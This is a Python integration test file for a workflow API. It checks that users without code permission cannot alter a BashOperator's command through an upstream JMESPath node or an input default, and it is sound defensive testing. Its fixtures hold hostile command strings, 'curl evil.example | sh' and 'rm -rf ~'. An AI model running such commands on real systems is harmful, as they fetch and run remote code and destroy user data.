"""A User (lacks Canvas Code) tries to change an operator's command without touching the operator.

An Op wrote ``start -> prep -> shell``: ``prep`` is a JMESPath node whose output ``{cmd: 'echo hi'}``
is mapped into the ``bash_command`` of a BashOperator node. Only the operator node and the mapping
counted as code, so a User rewrote ``prep``'s JMESPath literal to ``'curl evil | sh'`` (or the input
node's default that ``prep`` passed on) and saved it; the deploy review showed no code change and
the worker ran the new command. Now every node whose output reaches an operator's arguments is code:
the User gets a 403 naming it, nothing is stored, and a deploy lists it. Its name, description and
layout, and nodes that feed no operator, stay open to Users."""

from __future__ import annotations

import copy
import itertools
from collections.abc import Callable
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.integration.api.conftest import API

Headers = Callable[[str], dict[str, str]]
_seq = itertools.count()


def _spec(workflow_id: str) -> dict[str, Any]:
    return {
        "id": workflow_id,
        "nodes": [
            {
                "id": "start",
                "type": "input",
                "output_schema": {
                    "type": "object",
                    "properties": {"word": {"type": "string", "default": "hi"}},
                },
            },
            {
                "id": "prep",
                "type": "process",
                "process": {"language": "jmespath", "expression": "{cmd: 'echo hi'}"},
            },
            {
                "id": "shell",
                "type": "tool",
                "operator": "airflow.providers.standard.operators.bash.BashOperator",
                "parameters": {"bash_command": "echo default"},
            },
            {"id": "other", "type": "process", "process": {"language": "jmespath", "expression": "@"}},
        ],
        "edges": [
            {"source": "start", "target": "prep"},
            {"source": "prep", "target": "shell", "mapping": [{"source": "cmd", "target": "bash_command"}]},
            {"source": "start", "target": "other"},
        ],
    }


@pytest.fixture(scope="module")
def written(client: TestClient, auth: Headers) -> dict[str, Any]:
    spec = _spec(f"opsrc_{next(_seq)}")
    r = client.post(f"{API}/workflows", json={"spec": spec}, headers=auth("Op"))
    assert r.status_code == 201, r.text
    return spec


def _save(client: TestClient, auth: Headers, role: str, spec: dict[str, Any]) -> Any:
    head = client.get(f"{API}/workflows/{spec['id']}", headers=auth("Op")).json()
    return client.put(
        f"{API}/workflows/{spec['id']}",
        json={"spec": spec, "base_version": head["version"]},
        headers=auth(role),
    )


def _refused(r: Any, node_id: str, pointer: str) -> None:
    assert r.status_code == 403, r.text
    body = r.json()
    assert "Canvas Code" in body["detail"] and "Nothing was stored" in body["detail"]
    assert any(p["code"] == "E_CODE_PERMISSION" and p["pointer"] == pointer for p in body["problems"]), body
    assert any(c["node_id"] == node_id and c["kind"] == "operator_source" for c in body["code_changes"]), body


def test_user_cannot_rewrite_the_data_an_operator_runs(
    client: TestClient, auth: Headers, written: dict[str, Any]
) -> None:
    literal = copy.deepcopy(written)
    literal["nodes"][1]["process"]["expression"] = "{cmd: 'curl evil.example | sh'}"
    _refused(_save(client, auth, "User", literal), "prep", "/nodes/1")

    passed_on = copy.deepcopy(written)  # prep passes the input's default on; the default is the command
    passed_on["nodes"][1]["process"]["expression"] = "{cmd: word}"
    _refused(_save(client, auth, "User", passed_on), "prep", "/nodes/1")

    default = copy.deepcopy(written)
    default["nodes"][0]["output_schema"]["properties"]["word"]["default"] = "rm -rf ~"
    _refused(_save(client, auth, "User", default), "start", "/nodes/0")

    head = client.get(f"{API}/workflows/{written['id']}", headers=auth("Op")).json()
    assert head["version"] == 1 and head["spec"]["nodes"][1]["process"]["expression"] == "{cmd: 'echo hi'}"


def test_user_may_edit_what_does_not_reach_an_operator(
    client: TestClient, auth: Headers, written: dict[str, Any]
) -> None:
    cosmetic = copy.deepcopy(written)
    cosmetic["nodes"][1]["name"] = "Prepare"
    cosmetic["nodes"][1]["description"] = "Builds the command."
    cosmetic["nodes"][1]["ui"] = {"position": {"x": 300, "y": 40}}
    cosmetic["nodes"][3]["process"]["expression"] = "{seen: word}"
    r = _save(client, auth, "User", cosmetic)
    assert r.status_code == 200, r.text


def test_op_may_and_the_deploy_lists_it(client: TestClient, auth: Headers) -> None:
    spec = _spec(f"opsrc_{next(_seq)}")
    assert client.post(f"{API}/workflows", json={"spec": spec}, headers=auth("Op")).status_code == 201
    spec["nodes"][1]["process"]["expression"] = "{cmd: 'echo changed'}"
    assert _save(client, auth, "Op", spec).status_code == 200
    preview = client.get(f"{API}/workflows/{spec['id']}/deploy/preview", headers=auth("Op")).json()
    kinds = {(c["kind"], c["node_id"]) for c in preview["code_changes"]}
    assert ("operator_source", "prep") in kinds and ("operator_source", "start") in kinds, kinds
